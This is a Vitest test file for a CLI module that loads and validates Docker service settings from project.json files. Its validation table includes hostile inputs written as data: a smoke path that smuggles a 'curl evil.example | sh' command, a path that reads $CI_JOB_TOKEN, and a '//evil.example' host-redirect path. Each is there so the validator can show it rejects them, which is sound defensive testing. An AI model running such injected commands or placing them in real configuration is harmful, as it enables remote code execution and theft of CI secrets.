import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { writeFiles } from '../testing/write-files.ts';
import { CliError, UsageError } from './errors.ts';
import { loadServices, pickServices, serviceFromProject, type Service } from './services.ts';

describe('serviceFromProject', () => {
  it('reads the recorded settings, with /api/ping as the default smoke path', () => {
    const metadata = { service: { description: 'Fibonacci', port: 3000, registry: 'dockerhub', deploy: 'ansible' } };
    expect(serviceFromProject({ name: 'fibonacci', root: 'apps/fibonacci', metadata })).toEqual({
      name: 'fibonacci',
      root: 'apps/fibonacci',
      description: 'Fibonacci',
      registry: 'dockerhub',
      port: 3000,
      smokePath: '/api/ping',
    });
    expect(serviceFromProject({ name: 'x', root: 'apps/x', metadata: { service: { smoke: '/api/fibonacci/8' } } }).smokePath).toBe('/api/fibonacci/8');
  });

  it('accepts a project with no settings at all', () => {
    expect(serviceFromProject({ name: 'x', root: 'apps/x' })).toMatchObject({ registry: undefined, port: undefined });
  });

  it.each([
    [{ registry: 'quay' }, 'apps/x/project.json metadata.service.registry is "quay"; it must be one of: gitlab, dockerhub'],
    [{ port: '3000' }, 'metadata.service.port is "3000"; it must be a TCP port number'],
    [{ smoke: 'api/ping' }, 'metadata.service.smoke is "api/ping"; it must be a path such as "/api/ping" (not //, which names another host), made of letters, digits and - . _ ~ % / ? & = + , : @'],
    // The deploy's smoke job gets the path as a CI input and a shell argument: nothing a shell or YAML would read.
    [{ smoke: '/api/ping"; curl evil.example | sh; "' }, 'metadata.service.smoke is "/api/ping\\"; curl evil.example | sh; \\""; it must be a path'],
    [{ smoke: '/api/$CI_JOB_TOKEN' }, 'metadata.service.smoke is "/api/$CI_JOB_TOKEN"; it must be a path'],
    [{ smoke: 42 }, 'metadata.service.smoke is 42; it must be a path'],
    // The smoke test GETs new URL(path, image URL): a path starting with // would take it to another host.
    [{ smoke: '//evil.example/x' }, 'metadata.service.smoke is "//evil.example/x"; it must be a path such as "/api/ping" (not //'],
  ])('names the file and the setting when %j is wrong', (service, message) => {
    expect(() => serviceFromProject({ name: 'x', root: 'apps/x', metadata: { service } })).toThrow(message);
  });
});

describe('pickServices', () => {
  const services: Service[] = ['fibonacci', 'weather'].map((name) => ({ name, root: `apps/${name}`, smokePath: '/api/ping' }));

  it('keeps the order given, once each', () => {
    expect(pickServices(services, { project: ['weather', 'fibonacci', 'weather'], affected: false }).map((service) => service.name)).toEqual(['weather', 'fibonacci']);
  });

  it('takes the affected names when asked, which may be none', () => {
    expect(pickServices(services, { project: [], affected: true }, ['fibonacci']).map((service) => service.name)).toEqual(['fibonacci']);
    expect(pickServices(services, { project: [], affected: true }, [])).toEqual([]);
  });

  it('wants exactly one of --project and --affected', () => {
    expect(() => pickServices(services, { project: [], affected: false })).toThrow(UsageError);
    expect(() => pickServices(services, { project: ['fibonacci'], affected: true })).toThrow('--project <name> (repeatable) or --affected, one of the two');
  });

  it('lists the projects with a Dockerfile when a name is not one', () => {
    expect(() => pickServices(services, { project: ['service-kit'], affected: false })).toThrow(CliError);
    expect(() => pickServices(services, { project: ['service-kit'], affected: false })).toThrow('"service-kit" is not a project with a Dockerfile (those are: fibonacci, weather)');
  });
});

describe('the sample apps', () => {
  const workspaceRoot = fileURLToPath(new URL('../../../', import.meta.url));

  it('record the endpoint their smoke tests call: fibonacci its own route, weather its form page (no upstream)', async () => {
    const smokePaths = Object.fromEntries((await loadServices(workspaceRoot)).map((service) => [service.name, service.smokePath]));
    expect(smokePaths).toMatchObject({ fibonacci: '/api/fibonacci/8', weather: '/' });
  });
});

describe('loadServices', () => {
  let root: string;
  const files = (entries: Record<string, string>) => writeFiles(root, entries);
  beforeEach(async () => {
    root = await mkdtemp(join(tmpdir(), 'docker-services-'));
  });
  afterEach(() => rm(root, { recursive: true, force: true }));

  it('finds the projects that have a Dockerfile, with their settings, by name', async () => {
    await files({
      'apps/weather/project.json': JSON.stringify({ name: 'weather', metadata: { service: { registry: 'gitlab', port: 3001 } } }),
      'apps/weather/Dockerfile': 'FROM scratch',
      'apps/fibonacci/project.json': JSON.stringify({ name: 'fibonacci' }),
      'apps/fibonacci/Dockerfile': 'FROM scratch',
      'libs/kit/project.json': JSON.stringify({ name: 'kit' }),
      'docs/Dockerfile': 'FROM scratch',
      'node_modules/pkg/Dockerfile': 'FROM scratch',
      'node_modules/pkg/project.json': '{}',
      'apps/weather/dist/Dockerfile': 'FROM scratch',
      'apps/weather/dist/project.json': '{}',
    });
    expect(await loadServices(root)).toEqual([
      { name: 'fibonacci', root: 'apps/fibonacci', description: undefined, registry: undefined, port: undefined, smokePath: '/api/ping' },
      { name: 'weather', root: 'apps/weather', description: undefined, registry: 'gitlab', port: 3001, smokePath: '/api/ping' },
    ]);
  });
});
